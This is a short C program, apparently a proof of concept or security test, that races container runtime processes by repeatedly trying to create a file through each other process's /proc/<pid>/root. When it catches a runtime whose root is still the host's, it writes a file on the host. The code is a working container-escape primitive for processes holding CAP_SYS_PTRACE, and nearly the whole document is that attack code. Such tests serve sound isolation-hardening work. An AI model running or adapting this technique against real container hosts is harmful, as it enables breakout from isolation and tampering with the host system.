// proc_root_racer PATH SECONDS: what a process with CAP_SYS_PTRACE in a container can do with
// another's /proc/<pid>/root. For SECONDS, creates PATH under the root of every other process it
// sees in /proc; a process whose root is the host's (a runtime's, between entering the
// container's pid namespace and its mount namespace) lets it create a host file. Prints
// "reached <pid>" when it did, "not-reached" when the time is up.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char** argv) {
    if (argc != 3) return 2;
    time_t end = time(NULL) + atoi(argv[2]);
    while (time(NULL) < end) {
        DIR* proc = opendir("/proc");
        if (!proc) return 1;
        struct dirent* e;
        while ((e = readdir(proc))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == getpid()) continue;
            char path[4096];
            snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[1]);
            int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
            if (fd >= 0) {
                printf("reached %d\n", pid);
                return 0;
            }
        }
        closedir(proc);
    }
    printf("not-reached\n");
    return 0;
}
